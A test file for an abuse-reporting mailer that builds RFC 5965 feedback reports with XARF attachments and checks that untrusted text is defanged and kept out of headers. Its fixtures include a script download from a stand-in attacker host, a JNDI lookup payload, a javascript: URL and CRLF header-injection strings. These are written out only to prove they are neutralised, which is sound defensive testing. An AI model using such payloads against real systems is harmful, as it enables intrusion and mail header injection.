// For: a stranger's text in a letter does nothing, and the parts of the mail are those of RFC 5965.
// Never: the wire; the mail face's tests look at it.

import fc from "fast-check";
import { expect, test } from "vitest";
import { xarfReport } from "../xarf/xarf-report.ts";
import type { XarfReport } from "../xarf/xarf-report.ts";
import { feedbackReport, mailDate } from "./feedback-report.ts";
import { defang, headerText, quoted, quotedCharsMax } from "./inert-mail.ts";

test("links and addresses are made harmless and can still be read", () => {
  expect(
    [
      "GET http://attacker.example/x.sh",
      "HTTPS://a.example",
      "ftp://a.example www.b.example",
      "${jndi:ldap://203.0.113.5/a}",
      "javascript:alert(1) root@a.example",
    ].map(defang),
  ).toEqual([
    "GET hxxp[:]//attacker.example/x.sh",
    "HxxPS[:]//a.example",
    "ftp[:]//a.example www[.]b.example",
    "${jndi:ldap[:]//203.0.113.5/a}",
    "javascript[:]alert(1) root[at]a.example",
  ]);
});

const stranger = fc.oneof(
  fc.string({ unit: "binary", maxLength: 1_000 }),
  fc
    .array(
      fc.constantFrom(
        "http://",
        "\r\n",
        "Bcc: ",
        "a@b.example",
        "\u202e",
        "\0",
        "\x1b[2J",
        "www.",
        "\ud800",
        "mailto:",
        "長",
      ),
      { maxLength: 300 },
    )
    .map((pieces) => pieces.join("")),
);

test("whatever it is, a quoted text is one short line without control characters or live links", () => {
  fc.assert(
    fc.property(stranger, (text) => {
      const line = quoted(text);
      expect(line).not.toMatch(/[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069\u200b-\u200f]/u);
      expect(line).not.toMatch(/:\/\/|www\.|@|mailto:/i);
      expect(line.isWellFormed()).toBe(true);
      expect(line.length).toBeLessThanOrEqual(quotedCharsMax);
    }),
  );
});

test("whatever it is, a header's text stays in its header", () => {
  fc.assert(
    fc.property(stranger, (text) => {
      const line = headerText(text);
      expect(line).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
      expect(line.isWellFormed() && line.length <= 180).toBe(true);
    }),
  );
});

function report(reportId: string): XarfReport {
  const made = xarfReport({
    reportId,
    type: "vulnerability_scan",
    reporter: { org: "Example Co.", contact: "abuse-report@example.jp", domain: "example.jp" },
    sourceIp: "2001:db8::9",
    protocol: "tcp",
    firstMs: 0,
    lastMs: 1,
    hits: 1,
    evidence: [],
  });
  if (!made) throw new Error("no report");
  return made;
}

const one = report("0b5b2f3e-6a52-4d8e-9a52-0d1f5c7b9e10");
const two = report("0b5b2f3e-6a52-4d8e-9a52-0d1f5c7b9e11");
const about = {
  userAgent: "Hinomi/0.1.0\r\nX: y",
  incidents: 16,
  lastMs: Date.UTC(2001, 6, 19, 5, 5, 0),
};

test("one source is a multipart/report of text, feedback report and XARF", () => {
  const part = feedbackReport("the letter\n", [one], about);
  expect(part).toMatchObject({
    type: "multipart/report",
    reportType: "feedback-report",
    parts: [
      { type: "text/plain", text: "the letter\n" },
      {
        type: "message/feedback-report",
        text: "Feedback-Type: xarf\nUser-Agent: Hinomi/0.1.0 X: y\nVersion: 1\nSource-IP: 2001:db8::9\nArrival-Date: Thu, 19 Jul 2001 05:05:00 +0000\nIncidents: 16\n",
      },
      { type: "application/json" },
    ],
  });
});

test("further sources follow as attachments, so that the report keeps its three parts", () => {
  const part = feedbackReport("the letter\n", [one, two], about);
  expect(part).toMatchObject({
    type: "multipart/mixed",
    parts: [
      { type: "multipart/report", parts: { length: 3 } },
      { type: "application/json", fileName: `xarf-${two.report_id}.json` },
    ],
  });
});

test("a date in a header is that of RFC 5322", () => {
  expect(mailDate(Date.UTC(2026, 0, 4, 23, 9, 7))).toBe("Sun, 4 Jan 2026 23:09:07 +0000");
});
